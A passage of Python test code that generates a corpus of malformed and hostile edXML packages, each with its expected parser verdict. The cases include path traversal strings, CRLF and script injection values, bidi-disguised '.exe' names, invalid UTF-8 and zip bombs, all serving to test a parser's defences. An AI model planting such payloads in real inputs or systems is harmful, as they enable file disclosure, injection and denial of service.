            ("utf32be-bom", b"\x00\x00\xfe\xff" + body.encode("utf-32-be"))):
        if len(data) >= MAX_FILE_BYTES:  # pragma: no cover - guard for the size rule
            raise AssertionError(name)
        c.add(f"encoding-{name}", data, refused("edxml.xml.encoding"), attack=attack,
              about=f"the package in {name}: packages must be UTF-8")
    ascii_doc = _at_subject(REF, "V/v trien khai lien thong").replace(
        "Thái Nguyên", "Thai Nguyen").replace("tỉnh", "tinh").replace("Nghệ An", "Nghe An")
    for name, decl, data in (
            ("declared-iso-8859-1-latin1-bytes", "ISO-8859-1", None),
            ("declared-windows-1252", "windows-1252", None),
            ("declared-utf16-utf8-bytes", "UTF-16", None),
            ("declared-us-ascii", "US-ASCII", None),
            ("declared-tcvn3", "TCVN3", None)):
        doc = ascii_doc.replace('encoding="UTF-8"', f'encoding="{decl}"')
        raw = doc.encode("latin-1", "replace") if "latin1" in name else doc.encode("utf-8")
        c.add(f"encoding-{name}", raw, refused("edxml.xml.encoding"), attack=attack,
              about=f"encoding declared as {decl}")
    c.add("encoding-latin1-bytes-declared-utf8", _at_subject(REF, "Réunion à Hà Nội")
          .encode("utf-8").replace("Réunion à".encode("utf-8"), "Réunion à".encode("latin-1")),
          refused("edxml.xml.encoding"), attack=attack,
          about="Latin-1 bytes in a package declared UTF-8")
    for i, (name, decl) in enumerate((("lowercase-utf8", "utf-8"), ("utf8-no-dash", "utf8"),
                                      ("no-declaration", None), ("standalone", "UTF-8"))):
        d = dialect(i)
        doc = document(d)
        if decl is None:
            doc = doc[len(XML_DECL):]
        elif name == "standalone":
            doc = doc.replace('encoding="UTF-8"?>', 'encoding="UTF-8" standalone="yes"?>')
        else:
            doc = doc.replace('encoding="UTF-8"', f'encoding="{decl}"')
        c.add(f"encoding-ok-{name}-{d.name}", doc, read(subject=SUBJECT), attack="tolerance",
              about=f"UTF-8 declared as {decl!r}: read")
    c.add("encoding-ok-utf8-bom", b"\xef\xbb\xbf" + document().encode("utf-8"),
          read(subject=SUBJECT), attack="tolerance", about="a UTF-8 byte order mark: read")

    bad = {
        "ff": b"\xff",
        "lone-continuation": b"\x80",
        "cut-sequence": b"\xe1\x80",
        "overlong-2-slash": b"\xc0\xaf",
        "overlong-3-slash": b"\xe0\x80\xaf",
        "overlong-4-slash": b"\xf0\x80\x80\xaf",
        "surrogate-high": b"\xed\xa0\x80",
        "surrogate-low": b"\xed\xbf\xbf",
        "above-10ffff": b"\xf4\x90\x80\x80",
        "five-byte": b"\xf8\x88\x80\x80\x80",
    }
    for i, (name, raw) in enumerate(bad.items()):
        d = dialect(i)
        c.add(f"utf8-invalid-{name}-in-subject-{d.name}",
              splice(_at_subject(d, f"V/v {MARK} kiểm tra"), raw), refused("edxml.xml.encoding"),
              attack=attack, about=f"invalid UTF-8 ({raw.hex(' ')}) in Subject")
    positions = {
        "from-name": _at_from_name, "attribute": _at_attribute, "comment": _at_comment,
        "pi": _at_pi, "base64": _at_base64, "attachment-name": _at_attachment_name,
        "status-description": _at_status_description,
    }
    for i, (where, make) in enumerate(positions.items()):
        d = dialect(i)
        c.add(f"utf8-invalid-overlong-in-{where}-{d.name}", splice(make(d, MARK), b"\xc0\xaf"),
              refused("edxml.xml.encoding"), attack=attack,
              about=f"overlong UTF-8 for '/' (C0 AF) in {where}")
    c.add("utf8-invalid-in-element-name",
          splice(document(message_extra=f"        <Sub{MARK}ject/>\n"), b"\xc0\xaf"),
          refused("edxml.xml.encoding"), attack=attack,
          about="overlong UTF-8 inside an element name")
    for i, (enc, where, make) in enumerate((("tcvn3", "subject", _at_subject),
                                            ("vni", "from-name", _at_from_name),
                                            ("tcvn3", "to-name", _at_to_name))):
        d = dialect(i)
        c.add(f"legacy-raw-{enc}-bytes-in-{where}-{d.name}",
              splice(make(d, MARK), encode_legacy(LEGACY_TEXT, enc)),  # type: ignore[arg-type]
              refused("edxml.xml.encoding"), attack=attack,
              about=f"{enc} bytes written as they are (not UTF-8) into {where}")


def legacy_family(c: Corpus) -> None:
    codecs = {"tcvn3": "latin-1", "vni": "cp1252"}
    combos = [("tcvn3", "subject"), ("vni", "subject"), ("tcvn3", "from-name"),
              ("vni", "to-name"), ("tcvn3", "attachment-name"), ("vni", "status-description")]
    for i, (enc, where) in enumerate(combos):
        d = dialect(i)
        text = LEGACY_TEXT if where != "attachment-name" else "Công văn số 123 về việc" + ".pdf"
        if where in ("from-name", "to-name"):
            text = "Ủy ban nhân dân tỉnh Thái Nguyên"
        mojibake = encode_legacy(text, enc).decode(codecs[enc])  # type: ignore[arg-type]
        mojibake = mojibake.replace("&", "&amp;").replace("<", "&lt;")
        c.add(f"legacy-{enc}-mojibake-in-{where}-{d.name}", TEXT_POSITIONS[where](d, mojibake),
              refused("edxml.text.legacy_encoding"), attack="legacy-encoding",
              about=f"Vietnamese in {enc} read as {codecs[enc]}, in {where}")
    c.add("legacy-false-positive-french-subject",
          _at_subject(REF, "Réunion à Paris : où est le café, déjà payé ?"),
          read(subject="Réunion à Paris : où est le café, déjà payé ?"), attack="tolerance",
          about="French text is not mistaken for legacy-encoded Vietnamese")


def control_family(c: Corpus) -> None:
    cases: list[tuple[str, str, str, bytes | None, dict[str, Any]]] = [
        ("ref-01", "subject", "&#1;", None, refused("edxml.xml.malformed")),
        ("ref-00", "from-name", "&#0;", None, refused("edxml.xml.malformed")),
        ("ref-1b", "attachment-name", "&#x1B;", None, refused("edxml.xml.malformed")),
        ("raw-01", "subject", MARK, b"\x01", refused("edxml.xml.malformed")),
        ("raw-1b", "to-name", MARK, b"\x1b", refused("edxml.xml.malformed")),
        ("ref-fffe", "subject", "&#xFFFE;", None, refused("edxml.xml.malformed")),
        ("raw-ffff", "subject", MARK, "\uffff".encode("utf-8", "surrogatepass"),
         refused("edxml.xml.malformed")),
        ("ref-surrogate", "subject", "&#xD800;", None, refused("edxml.xml.malformed")),
        ("ref-7f", "subject", "&#x7F;", None, refused("edxml.text.control")),
        ("ref-85", "from-name", "&#x85;", None, refused("edxml.text.control")),
        ("ref-9f", "status-description", "&#x9F;", None, refused("edxml.text.control")),
        ("raw-7f", "subject", MARK, b"\x7f", refused("edxml.text.control")),
        ("raw-c2-85", "attachment-name", MARK, b"\xc2\x85", refused("edxml.text.control")),
    ]
    for i, (name, where, value, raw, expect) in enumerate(cases):
        d = dialect(i)
        doc = TEXT_POSITIONS[where](d, f"V/v {value} x")
        c.add(f"control-{name}-in-{where}-{d.name}", splice(doc, raw) if raw else doc, expect,
              attack="control-characters", about=f"control character {name} in {where}")
    c.add("control-ok-tab-lf-cr-refs", _at_subject(REF, "V/v&#9;một&#10;hai&#13;ba"),
          read(subject="V/v\tmột\nhai\rba"), attack="tolerance",
          about="tab, LF and CR as references are text")


def bidi_family(c: Corpus) -> None:
    cases = [("rlo-raw", "subject", "\u202e"), ("rlo-ref", "subject", "&#x202E;"),
             ("lre-raw", "from-name", "\u202a"), ("rli-raw", "to-name", "\u2067"),
             ("pdi-ref", "attachment-name", "&#x2069;"), ("lro-raw", "status-description", "\u202d")]
    for i, (name, where, value) in enumerate(cases):
        d = dialect(i)
        c.add(f"bidi-{name}-in-{where}-{d.name}",
              TEXT_POSITIONS[where](d, f"V/v hủy {value}fdp.exe"), refused("edxml.text.bidi"),
              attack="bidi", about=f"bidirectional override ({name}) in {where}")
    c.add("bidi-ok-rlm-mark", _at_subject(REF, "V/v العربية\u200f 2024"),
          read(subject="V/v العربية\u200f 2024"), attack="tolerance",
          about="a right-to-left mark (not an override) in Arabic text is accepted")


def base64_family(c: Corpus) -> None:
    text = b64(PDF)
    n = len(text)
    bad = {
        "bang-at-start": "!" + text[1:],
        "bang-in-middle": text[:n // 2] + "!" + text[n // 2 + 1:],
        "bang-at-end": text[:-4] + "AB!A",
        "non-ascii": text[:100] + "é" + text[101:],
        "base64url": text[:100] + "-_" + text[102:],
        "padding-in-middle": "QQ==" + text,
        "all-padding": "====",
        "sample-truncated-marker": text[:64] + "...TRUNCATED(original 361100 base64 chars)",
    }
    for i, (name, value) in enumerate(bad.items()):
        d = dialect(i)
        c.add(f"base64-{name}-{d.name}", document(d, atts=(Att(b64=value),)),
              read(attachments=[att_err("edxml.attachment.base64")], subject=SUBJECT),
              attack="base64",
              about=f"bad base64 ({name}): the attachment is unusable, the header is read")
    for i, cut in enumerate((1, 2, 3)):
        d = dialect(i)
        c.add(f"base64-truncated-by-{cut}-{d.name}", document(d, atts=(Att(b64=text[:-cut]),)),
              read(attachments=[att_err("edxml.attachment.truncated")]), attack="base64",
              about=f"base64 cut {cut} characters short")
    c.add("base64-unpadded", document(atts=(Att(b64="QUI"),)),
          read(attachments=[att_err("edxml.attachment.truncated")]), attack="base64",
          about="base64 without its padding")
    three = (Att(cid="cid:1", name="1.pdf"), Att(cid="cid:2", name="2.pdf", b64="QUJD*AAA"),
             Att(cid="cid:3", name="3.pdf"))
    c.add("base64-bad-second-of-three", document(atts=three),
          read(attachments=[att_ok(), att_err("edxml.attachment.base64"), att_ok()]),
          attack="base64", about="only the damaged attachment is reported, the others decode")
    split = {"pi": "<?split?>", "cdata": "<![CDATA[]]>"}
    for i, (how, sep) in enumerate(split.items()):
        d = dialect(i)
        c.add(f"base64-padding-in-middle-split-by-{how}-{d.name}",
              document(d, atts=(Att(b64="QQ==" + sep + text),)),
              read(attachments=[att_err("edxml.attachment.base64")]), attack="base64",
              about=f"padding in the middle, with a {how} right after it")
    wrapped76 = "\n".join(text[k:k + 76] for k in range(0, n, 76))
    odd = {
        "mime-76-lf": "\n" + wrapped76 + "\n      ",
        "mime-76-crlf": "\r\n" + wrapped76.replace("\n", "\r\n") + "\r\n",
        "spaces-and-tabs": " \t".join(text[k:k + 10] for k in range(0, n, 10)),
        "cdata": f"<![CDATA[{text}]]>",
        "cdata-split": f"<![CDATA[{text[:50]}]]><![CDATA[{text[50:]}]]>",
        "char-refs": "".join(f"&#{ord(ch)};" for ch in text[:12]) + text[12:],
        "comment-inside": text[:40] + "<!-- quét lại -->" + text[40:],
        "pi-at-group-boundary": text[:40] + "<?page 2?>" + text[40:],
        "pi-mid-group": text[:41] + "<?page 2?>" + text[41:],
    }
    for i, (name, value) in enumerate(odd.items()):
        d = dialect(i)
        c.add(f"base64-ok-{name}-{d.name}", document(d, atts=(Att(b64=value),)), read(),
              attack="tolerance", about=f"valid base64 written oddly ({name}): decodes")
    c.add("base64-ok-empty", document(atts=(Att(b64=""),)), read(attachments=[att_ok(b"")]),
          attack="tolerance", about="an empty attachment decodes to an empty file")
    c.add("base64-element-inside", document(atts=(Att(b64="QUJD<x>RE</x>RA=="),)),
          read(attachments=[att_err("edxml.attachment.base64")]), attack="base64",
          about="an element inside the content: another parser would decode other bytes, so "
                "the attachment is refused")


def content_id_family(c: Corpus) -> None:
    attack = "content-id"
    c.add("cid-duplicate-same-spelling", document(atts=(Att(), Att(name="2.pdf"))),
          read(attachments=[att_ok(), att_err("edxml.attachment.duplicate_id")]), attack=attack,
          about="two attachments with ContentId cid:1")
    c.add("cid-duplicate-prefix-and-bare", document(atts=(Att(cid="cid:1"), Att(cid="1", name="2.pdf"))),
          read(attachments=[att_ok(), att_err("edxml.attachment.duplicate_id")]), attack=attack,
          about="cid:1 and 1 are the same ContentId")
    d = dialect(1)
    c.add("cid-duplicate-third", document(d, atts=(
        Att(cid="cid:1"), Att(cid="cid:2", name="2.pdf"),
        Att(cid=" cid:1 ", name="3.pdf", listed=False))),
        read(attachments=[att_ok(), att_ok(), att_err("edxml.attachment.duplicate_id")]),
        attack=attack, about=f"the third attachment repeats the first's ContentId ({d.name})")
    for i, _ in enumerate(range(2)):
        d = dialect(i)
        c.add(f"attachment-without-content-{d.name}", document(d, atts=(Att(cte=False),)),
              read(attachments=[att_err("edxml.attachment.missing")], subject=SUBJECT),
              attack=attack, about="an Attachment with no ContentTransferEncoded")
    second = f"      {REF.cte_open}QUJD{REF.cte_close}\n"
    c.add("attachment-two-contents", document(atts=(Att(extra=second),)),
          refused("edxml.structure.duplicate"), attack=attack,
          about="one Attachment with two ContentTransferEncoded elements")
    c.add("attachment-without-content-id", document(atts=(Att(cid=None, listed=False),)),
          read(warnings=["edxml.attachment.no_id"]), attack=attack,
          about="an attachment with no ContentId is read, with a warning")
    for i, _ in enumerate(range(2)):
        d = dialect(i)
        c.add(f"manifest-entry-without-attachment-{d.name}",
              document(d, manifest_extra=["cid:99"]), read(warnings=["edxml.attachment.missing"]),
              attack=attack, about="the manifest names cid:99 which no attachment carries: a warning")
    c.add("attachment-not-in-manifest", document(atts=(Att(listed=False),)),
          read(warnings=["edxml.attachment.unlisted"]), attack=attack,
          about="an attachment the manifest does not list: a warning")
    c.add("manifest-absent", document(manifest=False), read(warnings=["edxml.attachment.unlisted"]),
          attack=attack, about="no edXMLBody at all: attachments are read, unlisted")
    uuid = "3f2c9a7e-5b1d-4e8f-9a6b-0c1d2e3f4a5b"
    c.add("cid-uuid-bare-vs-prefixed",
          document(dialect(2), atts=(Att(cid=uuid, manifest_cid="cid:" + uuid),)),
          read(), attack="tolerance", about="cid:<uuid> in the manifest matches a bare <uuid>")


def missing_family(c: Corpus) -> None:
    attack = "missing"
    doc_cases = {
        "from": dict(drop=["From"]),
        "from-organ-id": dict(drop=["From/OrganId"]),
        "to": dict(drop=["To"]),
        "second-to-organ-id": dict(append=[("", "To", [["OrganName", "Sở Nội vụ"]])]),
        "subject": dict(drop=["Subject"]),
        "subject-empty": dict(set={"Subject": ""}),
        "subject-whitespace": dict(set={"Subject": " \n\t "}),
    }
    for i, (name, kw) in enumerate(doc_cases.items()):
        d = dialect(i)
        c.add(f"missing-{name}-{d.name}", document(d, header=edit(doc_header(), **kw)),
              refused("edxml.structure.missing"), attack=attack,
              about=f"document package without {name}")
    c.add("missing-from-organ-id-empty", document(header=edit(doc_header(), set={"From/OrganId": ""})),
          refused("edxml.value.organ_id"), attack=attack,
          about="an empty From/OrganId is an invalid identifier")
    d = dialect(1)
    whole = document(d)
    p = d.p
    cut_message = whole[:whole.index(f"<{p}MessageHeader>")] + whole[whole.index(
        f"</{p}MessageHeader>") + len(f"</{p}MessageHeader>"):]
    c.add(f"missing-message-header-{d.name}", cut_message, refused("edxml.structure.missing"),
          attack=attack, about="edXMLHeader without MessageHeader")
    whole = document()
    cut_header = whole[:whole.index("<edXML:edXMLHeader>")] + whole[whole.index(
        "</edXML:edXMLHeader>") + len("</edXML:edXMLHeader>"):]
    c.add("missing-edxml-header", cut_header, refused("edxml.structure.missing"), attack=attack,
          about="edXMLEnvelope without edXMLHeader")
    c.add("missing-envelope", XML_DECL + f'<edXML xmlns="{NS}"><AttachmentEncoded/></edXML>\n',
          refused("edxml.structure.missing"), attack=attack, about="root without edXMLEnvelope")
    c.add("missing-everything", XML_DECL + f'<edXML xmlns="{NS}"/>\n',
          refused("edxml.structure.missing"), attack=attack, about="an empty edXML root")
    status_cases = {
        "status-code": dict(drop=["StatusCode"]),
        "response-for": dict(drop=["ResponseFor"]),
        "response-for-ids": dict(drop=["ResponseFor/DocumentId", "ResponseFor/Code"]),
        "response-for-organ-id": dict(drop=["ResponseFor/OrganId"]),
        "status-from": dict(drop=["From"]),
    }
    for i, (name, kw) in enumerate(status_cases.items()):
        d = dialect(i)
        c.add(f"missing-{name}-{d.name}", status(d, header=edit(status_header(), **kw)),
              refused("edxml.structure.missing"), attack=attack,
              about=f"status package without {name}")
    for i, (name, kw, about) in enumerate((
            ("code-block", dict(drop=["Code"]), "no Code (số/ký hiệu)"),
            ("promulgation-info", dict(drop=["PromulgationInfo"]), "no PromulgationInfo"),
            ("document-type", dict(drop=["DocumentType"]), "no DocumentType"),
            ("promulgation-date-empty", dict(set={"PromulgationInfo/PromulgationDate": ""}),
             "an empty PromulgationDate"))):
        d = dialect(i)
        c.add(f"missing-{name}-{d.name}", document(d, header=edit(doc_header(), **kw)),
              refused("edxml.structure.missing"), attack=attack,
              about=f"{about}: present in every real package, required on input")
    d = dialect(4)
    c.add(f"tolerated-missing-trace-header-list-{d.name}", document(d, trace=None),
          read(subject=SUBJECT), attack="tolerance",
          about="no TraceHeaderList: a new document from a producer that writes none")


def root_family(c: Corpus) -> None:
    attack = "root"
    body = document()
    variants = {
        "no-namespace": "",
        "https": "https://www.mic.gov.vn/TBT/QCVN_102_2016",
        "trailing-slash": NS + "/",
        "lowercase": NS.lower(),
        "xmldsig": DSIG_NS,
    }
    for name, uri in variants.items():
        doc = body.replace(f'<edXML xmlns="{NS}">', f'<edXML xmlns="{uri}">' if uri else "<edXML>", 1)
        c.add(f"root-namespace-{name}", doc, refused("edxml.structure.root"), attack=attack,
              about=f"root edXML in namespace {uri!r}")
    for name, tag in (("soap-envelope", "Envelope"), ("lowercase-name", "edxml"),
                      ("envelope-as-root", "edXMLEnvelope")):
        doc = XML_DECL + f'<{tag} xmlns="{NS}">' + body[body.index("\n  <edXML:edXMLEnvelope"):
                                                     body.rindex("</edXML>")] + f"</{tag}>\n"
        c.add(f"root-name-{name}", doc, refused("edxml.structure.root"), attack=attack,
              about=f"root element {tag}")
    c.add("root-envelope-in-other-namespace",
          body.replace(f'xmlns:edXML="{NS}"', 'xmlns:edXML="urn:not-edxml"', 1),
          refused("edxml.ambiguous"), attack=attack,
          about="root right, envelope in another namespace: a name of the standard outside its "
                "namespace is refused as ambiguous")
    c.add("root-prefixed", document(DIALECTS["alt"]), read(subject=SUBJECT), attack="tolerance",
          about="root with a prefix (q:edXML) and xsi/xsd declarations")
    for name, data in (
            ("empty-file", b""),
            ("declaration-only", XML_DECL.encode()),
            ("garbage", b"not xml at all, just words"),
            ("text-before-root", ("hello" + body[len(XML_DECL):]).encode()),
            ("two-roots", (body + f'<edXML xmlns="{NS}"/>\n').encode()),
            ("junk-after-root", (body + "trailing text\n").encode()),
            ("unbound-prefix", body.replace("<edXML:Subject>", "<nope:Subject>")
             .replace("</edXML:Subject>", "</nope:Subject>").encode()),
            ("undeclare-prefix", body.replace("<edXML:Subject>",
                                              '<edXML:Subject xmlns:edXML="">').encode()),
            ("unclosed", body[:len(body) // 2].encode()),
            ("mismatched-end-tag", body.replace("</edXML:Subject>", "</edXML:Content>", 1).encode())):
        c.add(f"root-malformed-{name}", data, refused("edxml.xml.malformed"), attack=attack,
              about=f"not well-formed XML ({name})")
    c.add("root-binary-png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", refused("edxml.xml.encoding"),
          attack=attack, about="a PNG file: its first byte is not UTF-8")


def status_code_family(c: Corpus) -> None:
    for i, (label, code) in enumerate((("07", "07"), ("99", "99"), ("ab", "ab"), ("3", "3"),
                                       ("003", "003"), ("0x3", "0x3"), ("fullwidth-03", "０３"),
                                       ("minus-1", "-1"), ("13a", "13a"))):
        d = dialect(i)
        c.add(f"status-code-unknown-{label}-{d.name}",
              status(d, header=edit(status_header(), set={"StatusCode": code})),
              refused("edxml.status.unknown_code"), attack="status-code",
              about=f"StatusCode {code!r} is none of 01-06, 13, 15, 16")
    c.add("status-code-empty", status(header=edit(status_header(), set={"StatusCode": ""})),
          refused("edxml.structure.missing"), attack="status-code",
          about="an empty StatusCode must not be read as a valid code")
    for i, (code, expect_code) in enumerate((("15", "15"), (" 06\n", "06"))):
        d = dialect(i)
        c.add(f"status-code-ok-{expect_code}-{d.name}",
              status(d, header=edit(status_header(), set={"StatusCode": code})),
              read("status", status_code=expect_code), attack="tolerance",
              about=f"StatusCode {code!r} is read as {expect_code}")


OVERFLOW_TS = "9999-12-31T23:00:00-12:00"


def date_family(c: Corpus) -> None:
    attack = "dates"
    prom = "PromulgationInfo/PromulgationDate"
    for i, (name, value) in enumerate((("month-13", "2024/13/45"), ("feb-30", "2024/02/30"),
                                       ("words", "ngày 31 tháng 5"), ("long", "2" * 5000),
                                       ("year-0", "0000/01/01"))):
        d = dialect(i)
        c.add(f"date-promulgation-{name}-{d.name}", _with(d, {prom: value}),
              refused("edxml.value.date"), attack=attack,
              about=f"PromulgationDate {value[:20]!r}: mandatory, not a date")
    c.add("date-promulgation-overflow", document(header=edit(doc_header(), set={prom: OVERFLOW_TS})),
          refused("edxml.value.date"), attack=attack,
          about="PromulgationDate as an ISO timestamp whose conversion to Vietnam time overflows")
    for i, (name, value) in enumerate((("words", "hôm qua"), ("hour-25", "2024/06/01 25:61:00"),
                                       ("overflow", OVERFLOW_TS))):
        d = dialect(i)
        c.add(f"date-status-timestamp-{name}-{d.name}",
              status(d, header=edit(status_header(), set={"Timestamp": value})),
              refused("edxml.value.timestamp"), attack=attack,
              about=f"status Timestamp {value!r}: mandatory, not a timestamp")
    c.add("date-trace-timestamp-words",
          document(trace=edit(trace_list(), set={"TraceHeader/Timestamp": "sáng nay"})),
          refused("edxml.value.timestamp"), attack=attack, about="TraceHeader/Timestamp not a timestamp")
    for i, (name, value, warn) in enumerate((("day-first", "31/05/2024", True),
                                             ("iso", "2024-05-31", True),
                                             ("loose", "2024/5/31", True),
                                             ("padded", " 2024/05/31 ", False))):
        d = dialect(i)
        c.add(f"date-tolerated-{name}-{d.name}", _with(d, {prom: value}),
              read(warnings=["edxml.value.date"] if warn else [], promulgation_date="2024-05-31"),
              attack="tolerance", about=f"PromulgationDate {value!r} is read leniently")
    for i, (name, value) in enumerate((("words", "cuối tháng"), ("overflow", OVERFLOW_TS))):
        d = dialect(i)
        c.add(f"date-due-date-{name}-{d.name}", _with(d, {"DueDate": value}),
              read(warnings=["edxml.value.date"]), attack=attack,
              about=f"optional DueDate {value!r}: ignored with a warning")


def organ_id_family(c: Corpus) -> None:
    attack = "organ-id"
    unsafe = {
        "dot-dot-slash": "../../etc/passwd",
        "inner-space": "000.00.00 H55",
        "200-chars": "A" * 200,
        "backslash": "..\\..\\windows",
        "percent": "%2e%2e%2f",
        "semicolon": "000.00.00.H55;DROP",
        "nul-lookalike": "000.00.00.H55\u2400",
    }
    positions = {
        "from": lambda d, v: document(d, header=edit(doc_header(), set={"From/OrganId": v})),
        "to": lambda d, v: document(d, header=edit(doc_header(), set={"To/OrganId": v})),
        "trace": lambda d, v: document(d, trace=edit(trace_list(), set={"TraceHeader/OrganId": v})),
        "status-response-for": lambda d, v: status(d, header=edit(status_header(),
                                                                   set={"ResponseFor/OrganId": v})),
        "status-from": lambda d, v: status(d, header=edit(status_header(), set={"From/OrganId": v})),
        "receiver": lambda d, v: document(d, trace=edit(trace_list(), append=[(
            "Bussiness", "BussinessDocumentInfo",
            [["DocumentReceiver", "1"],
             ["ReceiverList", [["Receiver", [["OrganId", v], ["ReceiverType", "1"]]]]]])])),
    }
    i = 0
    for vname, value in unsafe.items():
        for where, make in positions.items():
            if (vname, where) not in _ORGAN_COMBOS:
                continue
            d = dialect(i)
            i += 1
            c.add(f"organ-id-{vname}-in-{where}-{d.name}", make(d, value.replace("&", "&amp;")),
                  refused("edxml.value.organ_id"), attack=attack,
                  about=f"OrganId {value[:30]!r} in {where}: unsafe characters or too long")
    replacement = [["ReplacementInfo", [["DocumentId", DOCUMENT_ID],
                                        ["OrganIdList", [["OrganId", "../../etc/passwd"]]]]]]
    c.add("organ-id-unsafe-in-replacement-list", document(trace=edit(
        trace_list(), set={"Bussiness/BussinessDocType": "3"},
        append=[("Bussiness", "ReplacementInfoList", replacement)])),
        refused("edxml.value.organ_id"), attack=attack,
        about="OrganIdList/OrganId items get the same identifier check as every OrganId")
    c.add("organ-id-nonstandard-to", _with(REF, {"To/OrganId": "28.22.H17"}),
          read(warnings=["edxml.value.organ_id"]), attack="tolerance",
          about="a malformed but safe recipient code is accepted with a warning")
    c.add("organ-id-surrounding-whitespace", _with(REF, {"From/OrganId": f"\n  {FROM_ID}\t"}),
          read(from_organ_id=FROM_ID), attack="tolerance",
          about="whitespace around an OrganId is dropped")


_ORGAN_COMBOS = {
    ("dot-dot-slash", "from"), ("dot-dot-slash", "to"), ("dot-dot-slash", "trace"),
    ("dot-dot-slash", "status-response-for"), ("dot-dot-slash", "receiver"),
    ("inner-space", "from"), ("inner-space", "status-from"),
    ("200-chars", "to"), ("200-chars", "status-response-for"),
    ("backslash", "trace"), ("percent", "from"), ("semicolon", "to"), ("nul-lookalike", "from"),
}


def document_id_family(c: Corpus) -> None:
    values = {
        "extra-commas": ("000.00.00.H55,2024/05/31,123/UBND-VP,000.00.00.G22,2020/01/01,1/X",
                         "000.00.00.H55,2024/05/31,123/UBND-VP,000.00.00.G22,2020/01/01,1/X"),
        "newline-injected": ("000.00.00.H55,2024/05/31,123/UBND-VP&#10;000.00.00.G22,2020/01/01,1/X",
                             "000.00.00.H55,2024/05/31,123/UBND-VP\n000.00.00.G22,2020/01/01,1/X"),
        "crlf-injected": ("000.00.00.H55,2024/05/31,123&#13;&#10;X-Header: 1",
                          "000.00.00.H55,2024/05/31,123\r\nX-Header: 1"),
        "path-like": ("../../../etc/passwd", "../../../etc/passwd"),
        "semicolons-pipes": ("000.00.00.H55;2024/05/31|123/UBND-VP",
                             "000.00.00.H55;2024/05/31|123/UBND-VP"),
        "markup-escaped": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    }
    for i, (name, (raw, parsed)) in enumerate(values.items()):
        d = dialect(i)
        if "\n" in parsed or "\r" in parsed:
            expect = refused("edxml.value.document_id")
            about = "DocumentId with an injected line break: refused (consumers log and split it)"
        else:
            expect = read(document_id=parsed, warnings=["edxml.value.document_id"])
            about = "DocumentId with injected separators: kept as sent, with a warning"
        c.add(f"document-id-{name}-{d.name}", _with(d, {"DocumentId": raw}), expect,
              attack="document-id", about=about)


def zip_family(c: Corpus) -> None:
    attack = "zip"
    bomb_size = 1 + 258 * 81_300   # ~20 MiB of zeros from ~20 KB of deflate
    cases: list[tuple[str, bytes, dict[str, Any], str, str | None]] = [
        ("bomb-honest-size", zip_bytes([zeros_member(b"scan.pdf", bomb_size)]),
         att_err("edxml.attachment.zip_bomb"),
         "one member declaring and expanding to ~20 MiB from ~20 KB", None),
        ("bomb-zip64-declared-1tib", zip_bytes([zeros_member(b"scan.pdf", 1 + 258 * 100,
                                                               zip64_size=1 << 40)]),
         att_err("edxml.attachment.zip_bomb"), "a ZIP64 member declaring 1 TiB", None),
        ("bomb-lying-small-size", zip_bytes([zeros_member(b"scan.pdf", bomb_size, declared=1000)]),
         att_err("edxml.attachment.truncated"),
         "declares 1000 bytes, expands to ~20 MiB: the CRC check fails at the declared size", None),
        ("bomb-named-mimetype", zip_bytes([zeros_member(b"mimetype", bomb_size)]),
         att_err("edxml.attachment.zip_bomb"),
         "the bomb member is named 'mimetype', which makes it look like an ODF container", None),
        ("corrupt-deflate", zip_bytes([Member(b"a.pdf", b"\xff\xfe\xfd garbage deflate", 0, 100)]),
         att_err("edxml.attachment.truncated"), "a member whose deflate data is invalid", None),
        ("encrypted-flag", zip_bytes([stored(b"a.pdf", PDF, flags=1)]),
         att_err("edxml.attachment.truncated"), "a member flagged as encrypted", None),
        ("unknown-method", zip_bytes([Member(b"a.pdf", PDF, zlib.crc32(PDF), len(PDF), method=99)]),
         att_err("edxml.attachment.truncated"), "compression method 99", None),
        ("name-mismatch", zip_bytes([stored(b"a.pdf", PDF, local_name=b"b.exe")]),
         att_err("edxml.attachment.truncated"),
         "central directory and local header name different files", None),
        ("cut-in-half", zip_bytes([stored(b"a.pdf", PDF)], cut=len(PDF) // 2),
         att_err("edxml.attachment.truncated"), "a ZIP cut short (no central directory)", None),
        ("magic-only", b"PK\x03\x04 not really a zip file",
         att_err("edxml.attachment.truncated"), "starts like a ZIP but is not one", None),
        ("ratio-over-lowered-limit", zip_bytes([zeros_member(b"a.pdf", 1 + 258 * 100)]),
         att_err("edxml.attachment.zip_bomb"), "a 100:1 member under a max_zip_ratio of 50", None),
    ]
    for i, (name, data, expect, about, bug) in enumerate(cases):
        d = dialect(i)
        c.add(f"zip-{name}-{d.name}", document(d, atts=(Att(content=data, ctype="application/zip",
                                                             name="scan.pdf"),)),
              read(attachments=[expect], subject=SUBJECT), attack=attack, about=about,
              limits={"max_zip_ratio": 50} if name.startswith("ratio") else None, reader_bug=bug)
    traversal = (("dot-dot", b"../../etc/passwd"), ("absolute", b"/etc/passwd"),
                 ("backslashes", b"..\\..\\Windows\\win.ini"),
                 ("drive-letter", b"C:/Windows/System32/x.dll"),
                 ("dot-dot-zigzag", b"./../../x/../../.bashrc"))
    inner = b"root:x:0:0:hostile corpus, never a real file\n"
    for i, (label, name) in enumerate(traversal):
        d = dialect(i)
        c.add(f"zip-member-path-{label}-{d.name}",
              document(d, atts=(Att(content=zip_bytes([stored(name, inner)]), ctype="application/zip",
                                    name="passwd.doc"),)),
              read(attachments=[att_ok(inner, zip_member_name=name.decode(), unwrapped_from_zip=True)]),
              attack=attack, about=f"a ZIP member named {name.decode()!r}: unwrapped into the "
                                   "output directory under the reader's own name, never that path")
    two = zip_bytes([stored(b"a.pdf", PDF), stored(b"b.pdf", PDF)])
    docx = zip_bytes([stored(b"[Content_Types].xml", b"<Types/>"),
                      stored(b"word/document.xml", b"<w/>")])
    honest = zip_bytes([stored(b"cong-van.pdf", PDF)])
    not_zip = b"PK\x03\x04 a text file that happens to start like a ZIP\n"
    c.add("zip-ok-magic-only-declared-text", document(atts=(Att(content=not_zip, ctype="text/plain",
                                                                name="ghi-chu.txt"),)),
          read(attachments=[att_ok(not_zip, unwrapped_from_zip=False)]), attack="tolerance",
          about="bytes that merely start like a ZIP, declared as text, are kept as they are")
    for name, data, expect, about in (
            ("two-members", two, att_ok(two, unwrapped_from_zip=False),
             "a ZIP of two files is kept as the ZIP"),
            ("docx", docx, att_ok(docx, unwrapped_from_zip=False),
             "an OOXML document is a ZIP by nature: kept"),
            ("reference-library-wrapper", honest,
             att_ok(PDF, zip_member_name="cong-van.pdf", unwrapped_from_zip=True),
             "the Java library's single-file wrapper is unwrapped")):
